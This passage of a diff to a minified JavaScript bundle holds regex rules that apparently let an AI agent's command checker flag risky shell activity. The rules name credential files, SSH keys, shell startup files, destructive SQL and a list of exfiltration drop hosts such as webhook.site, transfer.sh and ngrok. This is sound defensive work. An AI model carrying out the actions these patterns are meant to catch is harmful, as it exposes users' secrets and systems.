-|proc|dev|root|home|opt|srv|mnt|media)(?:/|$)|^[a-z]:\\\\\\\\(?:windows|users|program files)|^c:\\\\\\\\?$","device":"^/dev/(?:sd|nvme|vd|hd|xvd|mmcblk|disk|mapper|md)\\\
-\\w*","startup-file":"(?:^|/)\\\\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile|zlogin|kshrc|cshrc|xinitrc|xprofile|inputrc)$|config\\\
-\\.fish$|^/etc/(?:profile|rc\\\\.local|cron|init\\\\.d|systemd|ld\\\\.so\\\\.preload|sudoers|environment)","url":"^(?:https?|ftp|s3|wss?|scp|sftp)://|^\\\\d{1,3}(?:\\\\.\\\\d{\
-1,3}){3}(?::\\\\d+)?|^[\\\\w-]+(?:\\\\.[\\\\w-]+)*\\\\.(?:com|net|io|org|sh|dev|xyz|ru|cc|me|example|site|info|app|onion)(?:[:/]|$)|^[\\\\w.-]+@[\\\\w-]+\\\\.[\\\\w.-]+$"},"refus\
-als":{"unreadable-command":"The command $. Write it plainly, or in several steps.","unparsed-command":"No shell reads this: $. Give the command alone; what is n\
-o command belongs in a file or an answer.","unverifiable-command":"Nobody can say before it runs which program this is, and it may be a dangerous one. $","unrea\
-dable-text":"The text is too long to be judged. Say it in parts."}}}`);var mn=["reads","writes","deletes","moves","changes"],Tk=Object.keys(G.paths.classes),Yu=(t,e)=>Object.fromEntries(Object.entries(t).map(([s,r])=>[s,e(r)])),Pr=t=>Yu(
+(?!\\\\S*[/~])[\\\\w-]*7340281946\\\\S*|(?!\\\\S*(?:prod|live|main|master|stag|release|data|backup|company))(?:(?:tmp|temp|tests?|testing|scratch|throwaway|sandbox|e2e|\
+smoke|ci|(?:ci|e2e|unit|smoke)tests?)(?:[-_][\\\\w-]*)?|[\\\\w-]*[-_](?:tmp|temp|tests?|testing|scratch|throwaway|sandbox|e2e|smoke|ci|(?:ci|e2e|unit|smoke)tests?)(\
+?:[-_]?\\\\d+)?)(?= ))"],"compose_program":["^(?:docker|podman|nerdctl|docker-compose|podman-compose)$"],"timing_wrapper":["^(?:time|timeout|env|(?:ba)?sh|nice)$"\
+],"compose_variable":["^(?:DOCKER_HOST|DOCKER_CONTEXT|COMPOSE_\\\\w+|CONTAINER_HOST)$"],"compose_place":[" (?:-p|--project-name|--project-directory|-H|--host|-c|-\
+-context)|(?: -f|--file)[= ]?(?:[/~]|\\\\.\\\\.)|(?:-f|--file|--env-file|--profile)[= ]?\\\\S*prod"],"context_change":["^(?:docker context use|docker-machine|eval |ex\
+port DOCKER)|DOCKER_HOST="],"git_step":["^--(?:continue|skip|abort|quit|show-current-patch|edit-todo)$"],"cluster_tool":["^(?:kubectl|helm|kind|k3d|docker|echo|\
+printf|sleep|true|cat|grep|head|tail|jq|wc|date|mktemp|test|\\\\[|wait|cd|set|mkdir|trap)$"],"database_client":["^(?:redis-cli|valkey-cli|mongosh?)$"],"server_pro\
+gram":["^(?:mysqld(?:_safe)?|mariadbd|postgres|pg_ctl|redis-server|valkey-server|mongod)$"],"place_variable":["HOST|URL|SERVICE|PORT|ADDR|SOCK|DEFAULTS"],"forwa\
+rding_program":["^(?:ssh|socat|stunnel|ln|kubectl|haproxy|iptables|nft|ncat|source|\\\\.)$"],"leaves_database":["\\\\\\\\c|\\\\buse\\\\b|\\\\w\\\\.\\\\w|=\\"?\\\\w|://|^-h|^--host\
+"],"git_abort":["^(merge|rebase|cherry-pick|revert|am) --abort$"],"placeless_flag":["^(?:-[aefiqy]|--(?:name|if-exists|force|echo|quiet|yes|wait|verbose|timeout\
+|no-[\\\\w-]+)|\\\\d+[sm])$"],"cluster_creation":["^(?:kind create cluster|k3d cluster create)(?!.* -h\\\\b)(?!.*--(?:help|switch-context|update-default|kubeconfig-))\
+"],"cluster_settings":[" --kubeconfig[= ](/tmp/\\\\S+)"],"other_cluster":["\\\\bctx\\\\b|\\\\bcurrent-context|--user\\\\b|\\\\s-s\\\\S|\\\\buse-context|^kubectx|\\\\bset-context|\
+--(?:kube-?)?(?:context|config|cluster)\\\\b|--server\\\\b|\\\\s-s\\\\s|^kind export|^kubectl config|^docker (?:run|exec|cp)|KUBECONFIG"],"near_wrapper":["^(?:(?:ba)?sh\
+|sudo|env|time|timeout|psql|mysql|mariadb)$"],"code_wrapper":["^(?:python[\\\\d.]*|node|deno|bun|ruby|perl|php)$"],"naming_option":["^--?(?:[\\\\w-]*(?:name|bucket|\
+cluster|topic|queue|identifier|stack|table|database|volume|repo|id|group)|n|p)(?:=|$)"],"temporary_file":["^/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.).+"],"loopback"\
+:["^UseDevelopmentStorage=true$|^(?:[a-z][a-z0-9+.-]*://)?(?:[^@/\\\\s]*@)?(?:localhost|127(?:\\\\.\\\\d+){3}|\\\\[::1\\\\])(?::\\\\d+)?(?:/|$)"],"test_name":["^(?:.*[/_-])\
+?(?:test|tests|testing|scratch|tmp)(?:[_-][\\\\w\\\\u{FFFC}-]*)?\\\\d*(?:\\\\.(?:db|sqlite3?))?(?:\\\\?.*)?$","u"],"passing_file":["^(?::memory:$|/(?:tmp|var/tmp|dev/shm)\
+/(?!.*\\\\.\\\\.))"],"passing_address":["^(?:(?:file|sqlite\\\\d?):(?://)?/?)?/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.)|^(?:file:|sqlite\\\\d?:(?://)?/?)?:memory:(?:\\\\?.*)?\
+$|^jdbc:(?:h2|hsqldb|derby)::?mem"],"file_client":["^(?:sqlite3?|duckdb)$"],"http_client":["^(?:curl|wget|https?|xhs?)$"],"beyond_database":["^(?:drop-database|\
+drop-tablespace|drop-owned|shutdown|flush)$"],"local_host":["^(localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\\[?::1\\\\]?|host\\\\.docker\\\\.internal|10\\\\.[\\\\d.]+|192\\\\.168\
+\\\\.[\\\\d.]+|172\\\\.(1[6-9]|2\\\\d|3[01])\\\\.[\\\\d.]+|[a-z][\\\\w-]*|.*\\\\.(local|localhost|test|internal|svc))$"],"drop_host":["(^|\\\\.)(transfer\\\\.sh|file\\\\.io|0x0\\\\.st|\
+termbin\\\\.com|pastebin\\\\.com|paste\\\\.ee|hastebin\\\\.com|ix\\\\.io|sprunge\\\\.us|dpaste\\\\.(org|com)|webhook\\\\.site|requestbin\\\\.(com|net)|requestcatcher\\\\.com|pipedr\
+eam\\\\.net|beeceptor\\\\.com|interact\\\\.sh|oast\\\\.\\\\w+|burpcollaborator\\\\.net|ngrok(-free)?\\\\.(io|app|dev)|trycloudflare\\\\.com|serveo\\\\.net|localtunnel\\\\.me|loca\\\\\
+.lt|anonfiles\\\\.com|gofile\\\\.io|bashupload\\\\.com|temp\\\\.sh|catbox\\\\.moe|filebin\\\\.net|oshi\\\\.at|wetransfer\\\\.com|discord(app)?\\\\.com|hooks\\\\.slack\\\\.com|api\\\\.t\
+elegram\\\\.org|dnslog\\\\.cn|canarytokens\\\\.com)$|^\\\\d{1,3}(\\\\.\\\\d{1,3}){3}$|(^|[.-])(evil|attack(er)?|exfil\\\\w*|malicious|malware|c2|hacker|phish\\\\w*|leak\\\\w*|col\
+lect(or)?|drop|steal\\\\w*|bad(actor|guy)?|rogue|sink)([.-]|\\\\d|$)","i"],"file_folder":["(^|/)(bin|sbin|scripts|script|hooks|\\\\.husky|tools|ci)$"],"daemon_path":[\
+"^/(?:usr/)?(?:local/)?(?:sbin|lib(?:exec)?)/"],"lsof_port":["^(?:-\\\\w*i)?(?:[46]?(?:tcp|udp))?(?:@[\\\\w.-]+)?:(\\\\w+)$","i"],"few_lines":["^(?:-(?:n ?|-lines[= ]\
+)?(?:1?\\\\d|20|\\\\u{FFFC}.*))?$","u"],"one_line":["^(?:-n \\\\d{1,2}p|\\\\d{1,2}!d)$"],"matching_lines":["^(?:-n )?/((?:[^/\\\\\\\\]|\\\\\\\\.)*)/\\\\s*!d$|^(?:-n|--quiet|--sil\
+ent) (?:/((?:[^/\\\\\\\\]|\\\\\\\\.)*)/\\\\s*p|s([/|#,])((?:(?!\\\\3)[^\\\\\\\\\\\\n]|\\\\\\\\.)*)\\\\3.*p)$"],"word_everywhere":["^(root|pid|usr|bin|sbin|lib)$","i"],"ps_choice":["^-\\\
+\\w*[pq](?:[\\\\d\\\\u{FFFC}]|$)|^-C|^%%|^--(?:p?pid|quick-pid)(?:=|$)|^\\\\d+(?:,\\\\d+)*$|^\\\\u{FFFC}","u"],"ps_all":["^-[aefFlAjwHTLcy]*[eA]|^a?u?x"],"find_by_name":["\
+^-(name|iname|path|ipath|wholename|iwholename|regex|iregex)$"],"find_by_property":["^-([acm](time|min)|newer\\\\w*|anewer|cnewer|user|uid|samefile|used)$"],"choos\
+ing_filter":["^(?:[efz]?grep|rg|head|[gm]?awk|sed|fzf|shuf|test|\\\\[\\\\[?|cmp|diff|git)$"],"find_action":["^-(?:print0?|printf|fprint0?|fprintf|f?ls|exec|execdir|\
+ok|okdir|delete)$"],"find_command":["^-(exec|execdir|ok|okdir)$"],"deleting_program":["^(.*/)?(rm|unlink|shred|rimraf|srm)$"],"temp_root":["^/(private/)?(tmp|va\
+r/tmp|dev/shm)/*$"],"supplying_wrapper":["^(g?xargs|find|fd|parallel|[gm]?awk)$"],"fd":["^fd(find)?$"],"search_program":["^(find|ls|git|fd|fdfind)$"],"own_progr\
+am":["^(?![~/])(?!.*(?:node_modules|vendor|env)/).*/"],"subcommand_word":["^[a-zA-Z][\\\\w:.-]*$"],"command_argument":["^(?:-{1,2}[\\\\w-]|[/~.$]|\\\\+|[\\\\w-]+[/.=:]|\
+[a-z][a-z0-9]*-[a-z])"],"command_end":["^(?:and|then|to|so|because|which|in|for|on|but|with|before|after|\\\\d+[.)])$"],"valuable_things":["^(?:(?:private|ssh) ke\
+ys?|api keys|all secrets|the secrets|stored (?:secrets|passwords)|saved passwords|(?:my |user |stored |saved |the )?credentials|\\\\.env file|the remote)$"],"anno\
+uncement":["(?:^|\\\\s)(?:(?:i|we|you|agent|the agent|then) (?:will|shall|must|should|can|could|am going to|are going to|plan to|intend to|want to|would like to|n\
+eed to|have to|ought to|am about to|are about to|'ll)|i'll|we'll|you'll|i'd like to|we'd like to|i'm going to|we're going to|i'm about to|we're about to|i'm gon\
+na|we're gonna|i'd|let's|lets|let me|let us|gonna|going to|about to|need to|needs to|need you to|want you to|like you to|have to|got to|gotta|can you|could you|\
+would you|will you|please|(?:plan|goal|task|idea|step|approach|next|solution|fix|strategy|aim|objective|job|thing|way|option|move) is to|try to|proceed to|conti\
+nue to|make sure to|be sure to|remember to|don't forget to|do not forget to|don't hesitate to|do not hesitate to|feel free to|time to|best to|easiest to|simples\
+t to|(?:then|now|next|first|finally|so|and) (?:we|i)|start by|begin by|by|i am|i'm|we are|we're|currently|now|ich|wir|je vais|nous allons|il faut|je dois|voy a|\
+vamos a|hay que)$"],"own_announcement":["\\\\b(?:i'll|we'll|let me|let's|i'm going to|we're going to|(?:i|we) (?:will|need to|have to|must|am going to|are going t\
+o))\\\\b"],"signal_option":["^-(\\\\d+|(SIG)?(HUP|INT|QUIT|ILL|TRAP|ABRT|BUS|FPE|KILL|USR[12]|SEGV|PIPE|ALRM|TERM|CHLD|CONT|STOP|TSTP))$","i"],"affirmative_value":[\
+"^(client|server|true|t|1|yes)$","i"],"negative_value":["^(false|f|0|no|none|off)$","i"],"bare_letter":["^-\\\\w*[rvqayzR]$"],"request_statement":["^\\\\s*DROP\\\\s+(\
+DATABASE|TABLE|SCHEMA|USER|MEASUREMENT|SERIES|VIEW|COLUMN)\\\\b|^\\\\s*(TRUNCATE\\\\s+\\\\S|DELETE\\\\s+FROM\\\\s|ALTER\\\\s+TABLE\\\\s|UPDATE\\\\s+\\\\S+\\\\s+SET\\\\s|GRANT\\\\s|REVOKE\
+\\\\s)","i"],"request_fields":["(?:^|[?&])(?:query|q|sql|statement|stmt)=([^&#]*)|\\"(?:query|q|sql|statement|stmt)\\"\\\\s*:\\\\s*\\"((?:[^\\"\\\\\\\\]|\\\\\\\\.){1,4000})\\"","g\
+i"],"sql_path":["/(?:sql|query|statement|exec\\\\w*)\\\\b","i"],"own_server":["^(?:https?://)?(?:localhost|127\\\\.\\\\d+\\\\.\\\\d+\\\\.\\\\d+)(?::(?!8123|8086|9000|9200|7474|\
+8529|4200)\\\\d+)?(?:/|$)"],"sending_command":["^\\\\s*-?(?:put|mput|reput|send|append|mirror\\\\s+(?:-\\\\w*R\\\\w*|--reverse))\\\\s+(.*)$"],"editor_shell":["^\\\\s*:?\\\\s*(?\
+:[\\\\d,.$%]*!|[rw]\\\\s*!|silent!?\\\\s*!|term(?:inal)?\\\\s+|call\\\\s+system\\\\([\\"']|lua\\\\s+os\\\\.execute\\\\([\\"'])\\\\s*(.+?)(?:[\\"']\\\\))?$|^\\\\s*:?\\\\s*(?:sh(?:ell)?|term(\
+?:inal)?)!?\\\\s*$"],"container_engine":["^(?:docker|podman|nerdctl)$"],"plain_volume":["^[A-Za-z0-9][\\\\w.-]*:"],"bound_volume":["\\\\bvolume create\\\\b.* (?:-[odcH]\
+|--(?:opt|driver|type|context|host)\\\\b)"],"database_image":["^(?:[\\\\w.-]+/)*(?:postgres|postgis|pgvector|timescaledb|mysql|mariadb|percona|redis|valkey|keydb|mo\
+ngo|clickhouse-server|memcached)(?:[:@]|$)"],"container_network":["^--?(?:net|network|link|env-file)\\\\b|(?:HOST(?!_AUTH_METHOD)|UR[IL]|ADDR|DSN|SERVICE)\\\\w*=|^[\
+A-Z_]+=\\\\S*://|\\\\.my\\\\.cnf|pgpass|pg_service|psqlrc"],"input_name":["^(?:[-=]|/dev/stdin)$"],"indirect_runs":["\\\\b(?:exec\\\\.Command(?:Context)?|Command::new|Pro\
+cessBuilder|Runtime\\\\S*\\\\.exec|Process\\\\.(?:run|start)(?:Sync)?|os\\\\.execute|io\\\\.popen)\\\\s*\\\\(\\\\s*(?:ctx\\\\s*,\\\\s*)?(?![\\\\s\\"'\`)])|\\\\b(?:system2?|popen|execv[pe\
+]*|System\\\\.(?:cmd|shell)|os:cmd|Open3\\\\.\\\\w+)\\\\s*\\\\(\\\\s*(?![\\\\s\\"'\`)])"],"command_texts":["([\\"'])((?:sudo\\\\s+)?(?:rm|dd|shred|mkfs\\\\S*|git|chmod|chown|curl|wg\
+et)\\\\s(?:(?!\\\\1)[^\\\\\\\\\\\\n]){1,500})\\\\1"],"home_lookup":["\\\\bEnvironment\\\\.(?:GetFolderPath\\\\(\\\\s*Environment\\\\.SpecialFolder\\\\.(?:UserProfile|Personal|MyDocumen\
+ts)|GetEnvironmentVariable\\\\(\\\\s*\\"(?:HOME|USERPROFILE)\\")\\\\s*\\\\)|\\\\b(?:System\\\\.)?(?:homedir|user_home!?)\\\\(\\\\)|\\\\$(?:HOME|env:USERPROFILE|env:HOME)\\\\b|\\\\bENV\\\
+\\[[\\"']HOME[\\"']\\\\]|\\\\b(?:(?:std::)?env::|os[.:]|Sys\\\\.|System\\\\.)?(?:[gG]etenv|get_env!?|var(?:_os)?|getProperty)\\\\s*\\\\(?\\\\s*[\\"'](?:HOME|user\\\\.home)[\\"']\\\\s*\
+\\\\)|\\\\b(?:Platform|ProcessInfo\\\\.processInfo|System)\\\\.environment\\\\[[\\"']HOME[\\"']\\\\]|\\\\$(?:::)?env\\\\(HOME\\\\)|\\\\b(?:path\\\\.expand|expanduser|expand-file-name)\\\
+\\s*\\\\(?\\\\s*[\\"']~[\\"']\\\\s*\\\\)","g"],"git_settings":["^core\\\\.(sshcommand|editor|pager|askpass|fsmonitor|gitproxy|alternaterefscommand)$|^(sequence\\\\.editor|diff\
+\\\\.external|gpg(\\\\..+)?\\\\.program|pager\\\\..+|credential(\\\\..*)?\\\\.helper)$|^(diff|merge|filter|difftool|mergetool)\\\\..+\\\\.(cmd|command|textconv|driver|clean|smu\
+dge|process|path)$|^(uploadpack\\\\.packobjectshook|sendemail\\\\.(tocmd|cccmd|headercmd))$","i"],"production_name":["(?:^|[^a-z])(?:prod|production|live)(?:[^a-z]|\
+$)","i"],"standard_input":["^(?:-|/dev/stdin|/proc/self/fd/0|/dev/fd/0)$"],"shell_program":["^(?:ba|da|z|k|mk|a|rba|ya)?sh$"],"output_device":["^/dev/(?:stdout|\
+stderr|fd/[12])$"],"reliable_command":["^(?::|true|echo|printf|export|declare|local|set|alias|mkdir(?= -p))(?= |$)"],"changing_builtin":["^(?:set|shopt|source|\\\
+\\.)$"],"unfollowed_state":["\\\\(\\\\(|\\\\[\\\\[[^\\\\]]{0,200}\\\\s-\\\\w\\\\w\\\\s|\\\\w\\\\[[^\\\\]\\\\n]{0,60}[=+-]|\\\\$\\\\{\\\\w+:[^-+?=]|\\\\bIFS=|\\\\bprintf -v\\\\w|\\\\bread -\\\\w*a\\\\w|\\\\bf\
+unctions\\\\[|\\\\bset -[oA]\\\\b|\\\\blocal \\\\$|\\\\bTRAP[A-Z]|\\\\bwait -p|\\\\b(?:let|eval|source|unset|integer|float|repeat|always|disable|unfunction|unhash|emulate|zmodl\
+oad|getopts|coproc|shopt|enable|setopt|DEBUG|RETURN|ERR|BASH_ENV)\\\\b|(?:^|[;&|(\\\\n])\\\\s*\\\\.\\\\s"],"special_variable":["^(?:RANDOM|SRANDOM|SECONDS|LINENO|EPOCH\\\\w\
++|BASH\\\\w*|ZSH\\\\w*|OPT\\\\w+|REPLY|PIPESTATUS|PWD|OLDPWD|[EP]*[UGP]ID|DIRSTACK|FUNCNAME|GROUPS|SHELLOPTS|HIST\\\\w+|COMP\\\\w+|MAPFILE|COPROC|IFS|_|status|argv|[a-z]*\
+path|pipestatus|options|commands|functions|aliases|match|reply|signals|history|keymaps|widgets|TTYIDLE|COLUMNS|LINES|HOST\\\\w*|MACHTYPE|OSTYPE|USERNAME|TRY_BLOCK\
+_\\\\w+)$"],"unfollowed_builtin":["^(?:let|eval|source|\\\\.|shopt|enable|setopt|trap|declare|typeset|builtin|command)$"],"error_exit":["^set (?:-\\\\w*e\\\\w*|-\\\\w*o e\
+rrexit)(?: -\\\\w+| -o \\\\w+| pipefail)*$"],"waiting_command":["^(?:wait|sleep|usleep|break|exit|return|read|inotifywait|fswatch|select|wait4|flock|nc|curl|wget|ti\
+meout)$"],"endless":["^yes\\\\b|^(?:cat|dd|tr|base64|xxd|od) (?!.*\\\\bcount=).*/dev/(?:zero|u?random|full)(?: |$)"],"early_code":["\\\\b(?:BEGIN|CHECK|INIT|UNITCHECK\
+|use|no|require)\\\\b"],"checking_option":["^(?:c|check|[eElwW]|MO=\\\\w+)$"],"process_name":["[\\"'/|(^](?!name|pid|cmd|exe|comm|info)([a-z][\\\\w.-]{1,30})(?=[\\"'/|)\
+$])","g"],"git_filter":["^(?:stripspace|column|interpret-trailers|mailinfo|fmt-merge-msg)$"],"harmless":["^[\\\\w.-]*%[\\\\d.]*[gfe][\\\\w.-]*$|^[\\\\s,:.-]$"],"jq_choo\
+sing":["(?:[!=<>]=\\\\s*|\\\\[\\\\s*)\\\\$\\\\w+|(?:[!=<>]=\\\\s*|\\\\[\\\\s*|\\\\.\\\\s*)\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"|(?:test|startswith|endswith|contains|inside|has|split|r?index|mat\
+ch|capture|scan|[lr]trimstr|error|getpath|del)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"|(?:input_filename|str[pf]time)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"","g"],"plain\
+_text":["^[\\\\w\\\\u{FFFC}][\\\\w\\\\u{FFFC}.@:=,-]*$|^(?:[\\\\s,:=@._-]|\\\\\\\\[nt])?$","u"],"jq_making":["\\\\b(?:implode|fromjson|ltrimstr|rtrimstr|ascii_downcase|ascii_up\
+case|gsub|sub|reverse|tojson|input)\\\\b|@base\\\\d+d|@uri"],"template":["[._-](example|sample|template|dist|tpl|tmpl|defaults?)$"],"ssh":["(^|/)\\\\.ssh(/|$)"],"ssh_\
+settings":["/(config|known_hosts[^/]*|authorized_keys2?|[^/]+\\\\.pub|environment|rc)$"],"memory":["^/proc/[^/]+/mem$|^/dev/k?mem$|^/proc/kcore$"],"temp":["^/(tmp\
+|var/tmp|var/folders|private/tmp|private/var/folders|dev/shm|run/user/\\\\d+)(/|$)"],"package_cache":["^/var/(cache|lib/apt/lists)/"],"system_tree":["^/([^/]+|(us\
+r|var|etc|system|library)/[^/]+|usr/lib(32|64)?/[^/]+-linux-gnu[^/]*|var/lib/(dpkg|rpm|pacman|apt))$"],"local_system":["^/(usr/local|usr/src|opt|srv|var/www|etc\
+/apt/(sources\\\\.list\\\\.d|keyrings|trusted\\\\.gpg\\\\.d|preferences\\\\.d|apt\\\\.conf\\\\.d)|usr/share/keyrings)(/|$)"],"disposable_name":["^\\\\.coverage\\\\..+$|^\\\\.venv[-\
+_.]?\\\\w[\\\\w.-]*$|^venv-?\\\\d[\\\\d.]*$|^(tmp|temp|test|scratch|demo|dummy|build|dist|out|cmake-build|cache|bazel)[-_.].+$|.+[-_.](tmp|temp|cache|build|dist|out|out\
+put|bak|results?|coverage|artifacts?|generated)$|.+\\\\.(egg-info|dist-info|pyc|pyo|o|obj|a|so|class|log|tmp|temp|bak|orig|rej|swp|swo|tsbuildinfo|gcda|gcno|profr\
+aw|prof|out|pid|lock|d|map|cache|snap|tgz|whl|dll|dylib|exe|wasm|min\\\\.js|min\\\\.css|test\\\\.db)$|.+~$|^\\\\.#.*|^core\\\\.\\\\d+$|^test[_-]?repo.*|^my[-_]?test.*"],"de\
+vice":["^/dev/(?:(?:tcp|udp|pts|fd)/|(?:stdin|stdout|stderr|tty|fd|null|zero|full|random|urandom)$)"],"other_place":["^(?:-h|-u$|--host|--login-path|\\\\w*(?:HOST\
+|URL|SERVICE)\\\\w*=)|^(?!db[.[][^/:]*\\\\()\\\\S*[.:@=]\\\\S*$|\\\\b(?:connect|Mongo)\\\\s*\\\\(|\\\\b(?:host|hostaddr|service)=|\\\\\\\\c(?:onnect)?\\\\b|^[^ ]*\\\\uFFFC"],"local_wra\
+pper":["^(?:(?:ba|da|z|a)?sh|env|timeout|nohup|nice|time|xargs|find|awk|python[\\\\d.]*|node|perl|ruby|php|sudo|su)$"],"key_scripts":["\\\\bredis\\\\.p?call\\\\s*\\\\(\\\\s\
+*[\\"']flush(?:all|db)\\\\b|[\\"'](?:KEYS|SCAN|HSCAN|SSCAN|ZSCAN)[\\"'][\\\\s\\\\S]*[\\"'](?:DEL|UNLINK)[\\"']|\\\\b(?:for|while)\\\\b[\\\\s\\\\S]*[\\"'](?:DEL|UNLINK)[\\"']|[\\"'](?\
+:DEL|UNLINK)[\\"']\\\\s*,\\\\s*unpack\\\\s*\\\\(\\\\s*redis\\\\.p?call\\\\b|\\\\bredis\\\\.p?call\\\\s*\\\\(\\\\s*(?![\\"'])[\\\\s\\\\S]*\\\\bflush(?:all|db)\\\\b","i"],"credential_name":["^id_(\
+rsa|dsa|ecdsa|ed25519)(_sk)?([._-].*)?(?<!\\\\.pub)$|\\\\.(p12|pfx|jks|keystore|kdbx|ppk|keychain|keychain-db|key)$|^(?!.*(cert|chain|\\\\bca\\\\b|bundle|public|\\\\bpub\\\
+\\b|\\\\bcrt\\\\b|dhparam|roots?)).*\\\\.pem$|^(app|prod|production|staging|dev|db|my)?[-_.]?(secrets?|passwords?|passwd|tokens?)(\\\\.(prod|production|staging|dev|local\
+|enc))?\\\\.(json|ya?ml|toml|ini|txt|env|csv|cfg|conf|properties|xml|db|sqlite)$|^(app|prod|production|staging|dev|db|my)?[-_.]?(api|access)[-_]?keys?(\\\\.(prod|pr\
+oduction|staging|dev|local|enc))?\\\\.(json|ya?ml|toml|ini|txt|env|csv|cfg|conf|properties|xml|db|sqlite)$|^(service[-_]?account|client[-_]?secrets?|gcp[-_]?key|s\
+a[-_]?key|firebase-adminsdk).*\\\\.json$|(^|[-_.])(api|secret|private|access|auth)[-_]?(key|token)s?(\\\\.(json|txt|ya?ml|pem|key|env))?$|^(login data|web data)( fo\
+r account)?(-journal)?$|^vault[-_]pass(word)?(\\\\.txt)?$|^\\\\.vault[-_]pass.*|\\\\.kubeconfig$"],"fixture_folder":["(^|/)(fixtures?|__fixtures__|testdata|test[-_]da\
+ta|test[-_]fixtures)/"],"fixture_key":["^(fake|dummy|mock|example|sample|test|invalid|expired|self[-_]?signed|server|client|localhost|leaf|agent\\\\d)"],"windows_\
+folder":["[*?[{]|^(?:inetpub|documents and settings|windows|program ?files.*|programdata|system.*|users|boot|efi|recovery|perflogs|\\\\$.*)$"],"package_store":["^\
+\\\\.(npm|yarn|pnpm|cargo|rustup|m2|gradle|nuget|cache|node-gyp|electron|cypress|conda)$"],"counting_flag":["^(?:-q|-c|--quiet|--count)$"],"listing_flag":["^(?:-l\
+|--files-with-matches|--files)$"],"printing_names":["^sed (?:-n (?=.*p \\\\S+$))?(?:-E )?s(.)=\\\\.\\\\*\\\\1=?(?:(?!\\\\1)[^&\\\\\\\\;\\\\n])*\\\\1[gp]?(?: (?:\\\\S*\\\\/)?\\\\.env(?:\
+\\\\.\\\\w+)?)?$|^jq (?:-\\\\w+ )*(?:\\\\.(?:data|stringData)(?: ?\\\\| ?| ))?(?:keys(?:_unsorted)?(?:\\\\[\\\\])?|length)$|^cut (?:-z )?(?:-d ?= -f ?1|-f ?1 -d ?=)(?: (?:\\\\S\
+*\\\\/)?\\\\.env(?:\\\\.\\\\w+)?)?$|^[ef]?grep (?:-\\\\w*o\\\\w* |-o -E |-E -o )\\\\^(?:export )?(?:\\\\[\\\\^=#?\\\\]|\\\\[\\\\^#=\\\\]|\\\\[(?:A-Z|a-z|0-9|_)+\\\\]|[\\\\w()]|\\\\\\\\w)+(?:[*+]|\\\
+\\\\\\\\\\+)?\\\\)?=?(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)*)*$|^[gm]?awk -F ?=(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)*)* (?:NF|\\\\/[^/{}]*\\\\/|!\\\\/\\\\^#\\\\/(?: ?&& ?NF)?)? ?\\\\{ ?pri\
+nt \\\\$1;? ?\\\\}$"],"sourcing":["^reads (?:source|\\\\.) (?:\\\\.?/)?(?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*$"],"line_filter":["^(?:cat|[ef]?grep(?! -\\\\S*[oPzr])|rg(?! -\\\
+\\S*[or])|sort(?!.* (?:-\\\\w*o|--output))|uniq(?! [^-]| .* [^-])|head(?! -c)|tail(?! -c)|env|kubectl get|oc get) ?"],"secret_listing":["^(?:kubectl|oc)$"],"counte\
+r":["^(?:wc|sort|head|tail|uniq|[ef]?grep)$"],"file_test":["^(?:test|\\\\[) (?:! )?-[ef] \\\\S*\\\\.env"],"settings_file":["(?:^|/)\\\\.env(?:\\\\.[\\\\w-]+)*$"],"text_filt\
+er":["^(?:cat|g?sed|envsubst|[gm]?awk|[ef]?grep)$"],"copying":["^writes cp (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.?env[\\\\w.-]*[._-](?:example|sample|template|tpl|dist|default\
+s?) (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*$"],"awk_comparison":["(?:\\\\$\\\\w+|\\\\bNR)\\\\s*==\\\\s*(?:\\"[^\\"\\\\n]{2,}\\"|\\\\d+|[A-Za-z]\\\\w*|\\\\u{FFFC})|\\\\bindex\\\\(\\\\s\
+*\\\\$\\\\w+\\\\s*,\\\\s*\\"[^\\"\\\\n]{2,}\\"","u"],"awk_field":["^\\\\s*\\\\{\\\\s*print\\\\s*(?:\\\\$(?:\\\\d|NF))?\\\\s*;?\\\\s*\\\\}\\\\s*$"],"sed_command":["(?<between>[\\\\s;{}!]+|#.*|\\\\d+\
+(?:~\\\\d+)?|\\\\$|,\\\\s*[+~]?|I(?=[\\\\s,!a-z])|(?:(?=\\\\/)|\\\\\\\\)(?<quote>[\\\\s\\\\S])(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])*\\\\]|(?!\\\\k<quote>)[^\\\\\\\\[])*\\\\\
+k<quote>)|s(?<delimiter>[^\\\\w\\\\s\\\\\\\\])(?<pattern>(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])*\\\\]|(?!\\\\k<delimiter>)[^\\\\\\\\[])*)\\\\k<delimiter>(?<replace\
+ment>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<delimiter>)[^\\\\\\\\])*)\\\\k<delimiter>(?<flags>[gpeimIM\\\\d]*)(?:w(?<target>.*))?|(?<other>y(?<mark>[^\\\\w\\\\s\\\\\\\\])(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k\
+<mark>)[^\\\\\\\\])*\\\\k<mark>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<mark>)[^\\\\\\\\])*\\\\k<mark>|[aic](?:\\\\\\\\\\\\n|.)*|[N=gGhHxzF]|l\\\\s*\\\\d*|[:btTv][^;\\\\n}]*)|e(?<command>.*)|[wW](?<outp\
+ut>.*)|[rR](?<input>.*)|(?<select>[pdnPD]|[qQ]\\\\s*\\\\d*)","y"],"brace_literal":["\\\\\\\\[\\\\s\\\\S]?|'[^']*'?|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\])*\\"?|\\\\x60(?:\\\\\\\\[\\\\s\\\\S]|[^\\\
